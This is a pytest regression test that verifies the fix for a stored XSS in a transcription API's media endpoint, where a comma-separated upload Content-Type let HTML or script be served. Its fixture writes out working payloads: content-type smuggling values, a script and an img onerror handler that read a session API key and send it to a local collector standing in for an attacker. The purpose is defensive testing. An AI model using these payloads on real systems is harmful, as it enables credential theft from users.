"""Finding N3: stored XSS on the api's own origin. The OpenAI route stored a multipart part's
Content-Type unchecked as the object's type, and ``/media/<token>`` (public, the page's own
origin) served it whenever it began ``audio/`` or ``video/``. Browsers read a comma-separated
Content-Type as a list and take its last valid type: ``audio/mpeg, text/html`` is HTML and
``audio/mpeg, text/javascript`` a script that passes ``nosniff`` and the page's ``script-src
'self'``. globex (here mallory, a tenant of its own) uploaded a script and an HTML page loading
it, minted media URLs for both and sent the page's to a victim signed in to the web page:
headless Chromium ran it and read the victim's API key from sessionStorage.

Re-run as found, in Debian's chromium: nothing the uploads carry runs, and the key stays put.
Media now goes out with the type of the container extract probed (or, before that, of the
name's extension), from a fixed list, with ``nosniff`` and ``Content-Security-Policy: sandbox``.
"""

from __future__ import annotations

import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
import requests

from tests.conftest import wait_for
from tests.web.conftest import browser  # noqa: F401  (the fixture: Debian's chromium, headless)

pytestmark = pytest.mark.model
KEY = "kscribe.key"


class Collector:
    """Where a stolen key would be sent: records every request's path."""

    def __init__(self):
        self.seen: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                collector.seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def _upload(env, tenant, filename: str, content_type: str, data: bytes) -> str:
    """An OpenAI-route upload whose file part declares ``content_type``; its job's id."""
    r = requests.post(
        env.api + "/v1/audio/transcriptions",
        headers={**tenant.auth, "Prefer": "wait=0"},
        data={"model": "whisper-1"},
        files={"file": (filename, data, content_type)},
        timeout=60,
    )
    assert r.status_code in (200, 202), r.text
    return r.json().get("id") or r.headers["X-Kscribe-Job-Id"]


def _media_url(env, tenant, job_id: str) -> str:
    r = requests.post(f"{env.api}/api/v1/transcriptions/{job_id}/media", headers=tenant.auth, timeout=30)
    assert r.status_code == 201, r.text
    return env.api + r.json()["url"]


@pytest.fixture(scope="module")
def attack(env):
    """mallory's two uploads, as the finding made them, and the collector they report to."""
    mallory = env.tenant("mallory")
    collector = Collector()
    steal = f"sessionStorage.getItem('{KEY}')"
    script = (
        f"document.title = 'XSS:' + {steal};"
        f"new Image().src = '{collector.url}/script?k=' + encodeURIComponent({steal});"
    ).encode()
    script_url = _media_url(env, mallory, _upload(env, mallory, "song.mp3", "audio/mpeg, text/javascript", script))
    page = (
        "<!doctype html><html><head><title>clean</title></head><body>"
        f'<script src="{script_url}"></script>'
        f"<img src=x onerror=\"document.title='XSS-inline:'+{steal};"
        f"new Image().src='{collector.url}/inline?k='+{steal}\">"
        "</body></html>"
    ).encode()
    page_url = _media_url(env, mallory, _upload(env, mallory, "clip.mp3", "audio/mpeg, text/html", page))
    yield script_url, page_url, collector
    collector.close()


def _nothing_ran(driver, collector, seconds: float = 5.0) -> None:
    """For ``seconds``, the title never shows the payload's mark and nothing reaches the collector."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        assert not driver.title.startswith("XSS"), driver.title
        assert collector.seen == [], collector.seen
        time.sleep(0.1)


def test_media_answers_carry_no_client_type_and_forbid_sniffing_and_script(env, attack):
    script_url, page_url, _ = attack
    for url in (script_url, page_url):
        r = requests.get(url, timeout=30)
        assert r.status_code == 200, r.text
        kind = r.headers["Content-Type"]
        assert "," not in kind and "html" not in kind and "javascript" not in kind, kind
        assert kind.split("/")[0] in ("audio", "video", "application"), kind
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert r.headers["Content-Security-Policy"].split(";")[0].strip() == "sandbox", r.headers


def test_the_victim_opening_the_html_runs_nothing(env, attack, browser):
    script_url, page_url, collector = attack
    browser.get(env.api + "/")
    browser.execute_script(f"sessionStorage.setItem('{KEY}', arguments[0])", env.acme.token)
    # The link mallory sent: opened in the victim's signed-in tab.
    browser.get(page_url)
    _nothing_ran(browser, collector)
    # Not even a document of mallory's on the api's origin: no HTML parsed, no element of it.
    shown = browser.execute_script("return [document.URL, document.contentType]")
    assert shown[1] != "text/html" or shown[0] != page_url, shown
    assert browser.execute_script("return document.querySelectorAll('script[src], img[onerror]').length") == 0
    # The key is still where it was, unread by anyone else.
    browser.get(env.api + "/")
    assert browser.execute_script(f"return sessionStorage.getItem('{KEY}')") == env.acme.token


def test_the_script_does_not_run_even_from_the_apis_own_page(env, attack, browser):
    script_url, _, collector = attack
    browser.get(env.api + "/")
    browser.execute_script(f"sessionStorage.setItem('{KEY}', arguments[0])", env.acme.token)
    # As if any markup on the origin loaded it (script-src 'self' admits /media/ URLs).
    browser.execute_script(
        "const s = document.createElement('script'); s.src = arguments[0]; "
        "s.onerror = () => { document.body.dataset.blocked = '1'; }; document.head.appendChild(s);",
        script_url,
    )
    wait_for(lambda: browser.execute_script("return document.body.dataset.blocked") == "1", timeout_s=15)
    _nothing_ran(browser, collector, seconds=2)


def test_the_harness_would_see_a_script_run(env, attack, browser):
    """Control: the same payload, run for certain, is seen (the checks above can fail)."""
    _, _, collector = attack
    browser.get(env.api + "/")
    browser.execute_script(f"sessionStorage.setItem('{KEY}', 'control'); document.title = 'XSS:control';")
    with pytest.raises(AssertionError):
        _nothing_ran(browser, collector, seconds=1)
